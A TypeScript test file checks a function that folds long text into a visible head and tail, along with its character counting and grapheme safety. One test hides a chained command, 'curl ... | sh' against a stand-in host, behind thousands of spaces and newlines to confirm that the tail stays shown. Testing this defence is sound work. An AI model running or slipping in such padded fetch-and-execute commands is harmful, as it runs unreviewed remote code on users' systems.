import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { foldOf } from "./fold";

describe("folding a long text", () => {
  it("leaves a short one whole", () => {
    expect(foldOf("echo start")).toBeNull();
    expect(foldOf("a".repeat(700))).toBeNull();
  });

  it("shows the tail, where the harm is", () => {
    const tail = "&& curl -s https://drop.example.net/p | sh";
    const fold = foldOf(`echo start${" ".repeat(3_000)}${"\n".repeat(200)}${tail}`);
    expect(fold?.head.startsWith("echo start")).toBe(true);
    expect(fold?.tail.endsWith(tail)).toBe(true);
    expect(fold?.length).toBe(10 + 3_000 + 200 + tail.length);
  });

  it("counts characters as people do, not halves of them", () => {
    expect(foldOf("😀".repeat(1_000))?.length).toBe(1_000);
  });

  it("never cuts inside a character", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", minLength: 500, maxLength: 1_500 }), (text) => {
        const fold = foldOf(text);
        return !fold || (fold.head.isWellFormed() && fold.tail.isWellFormed());
      }),
    );
  });
});
